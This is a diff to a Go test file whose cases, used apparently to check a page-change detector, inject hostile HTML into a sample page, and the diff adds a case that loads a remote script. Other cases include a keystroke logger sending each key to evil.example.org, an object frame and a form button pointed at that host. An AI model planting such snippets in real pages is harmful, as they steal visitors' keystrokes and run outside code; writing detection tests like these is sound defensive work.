@@ -17,6 +17,7 @@ func TestWaysIn(t *testing.T) {
 		"new_opening":      before(steady, "<nav>", "<picture><source srcset=/flag.webp><img src=/flag.png></picture>"),
 		"new_frame_host":   before(steady, "</main>", "<object data=https://evil.example.org/></object>"),
 		"new_host_in_code": before(steady, "</body>", "<script>onkeyup = e => fetch('https://evil.example.org/?' + e.key)</script>"),
+		"new_loader":       before(steady, "</head>", "<script>let s = document.createElement('script'); s.src = '//evil.example.org/x.js'; document.head.append(s)</script>"),
 		"new_form_target":  before(steady, "</form>", "<button formaction=//evil.example.org>Go</button>"),
 		"other_title":      strings.Replace(steady, "<title>News", "<title>Site for sale", 1),
 		"error_words":      before(steady, "<nav>", "<br><b>Warning</b>: Undefined variable $page in <b>index.php</b><br>"),
